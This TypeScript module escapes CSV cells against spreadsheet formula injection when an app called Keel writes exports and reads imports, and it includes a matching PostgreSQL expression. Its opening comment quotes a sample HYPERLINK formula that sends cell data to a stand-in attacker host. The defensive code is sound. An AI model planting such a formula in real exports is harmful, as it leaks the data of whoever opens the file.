// CSV cells that a spreadsheet must not run. Excel, LibreOffice and Google Sheets read a cell starting with `=`,
// `+`, `-` or `@` (and, after a tab or carriage return, the same) as a formula: a record category such as
// `=HYPERLINK("https://evil.example/?"&A1,"Open")` would run on the machine of whoever opens an export. OWASP's
// rule: prefix such a cell with `'`, which the spreadsheet shows as text. Numbers (`-12.5`) are left as they are:
// they cannot be formulas, and an export read back by an import must give the same amount. Every CSV Keel writes
// goes through this module (the export builds its lines in PostgreSQL with `csvCellSql`, the import report in Node
// with `csvCell`); the import takes the prefix off again with `readCsvCell`, so text round-trips too.

/** A cell a spreadsheet would evaluate, also behind quotes already added by this rule (so `'=x` stays `'=x`). */
const FORMULA = /^'*[=+\-@\t\r]/;
const NUMBER = /^[+-]?\d+(\.\d+)?$/;
/** What a neutralised cell looks like: one added quote, then what needed it. */
const NEUTRALISED = /^'(?='*[=+\-@\t\r])/;

const needsPrefix = (text: string) => FORMULA.test(text) && !NUMBER.test(text);

/** One CSV field (RFC 4180): neutralised when a spreadsheet would run it, quoted when it holds `,` `"` or a newline. */
export function csvCell(value: string | number): string {
  const raw = String(value);
  const text = needsPrefix(raw) ? `'${raw}` : raw;
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV line of fields, without the newline. */
export const csvLine = (values: readonly (string | number)[]) => values.map(csvCell).join(',');

/**
 * The same rule as a PostgreSQL expression over a text expression: always quoted (PostgreSQL writes the export's
 * lines itself, see records.csv.ts), with the `'` prefix when `csvCell` would add one.
 */
export function csvCellSql(expr: string): string {
  // The patterns are the ones above, as SQL string literals (standard_conforming_strings: `\` is literal there).
  // Their `?` quantifiers become `{0,1}`: drivers that bind `?` placeholders (MikroORM's execute, used on PGlite)
  // would take a `?` inside the SQL for one.
  const literal = (re: RegExp) => `'${re.source.replace(/'/g, "''").replace(/\?/g, '{0,1}')}'`;
  return (
    `'"' || case when (${expr}) ~ ${literal(FORMULA)} and (${expr}) !~ ${literal(NUMBER)} then '''' else '' end` +
    ` || replace(${expr}, '"', '""') || '"'`
  );
}

/** A field as read from a CSV Keel wrote: the `'` that `csvCell` added is taken off again. */
export const readCsvCell = (text: string) => text.replace(NEUTRALISED, '');
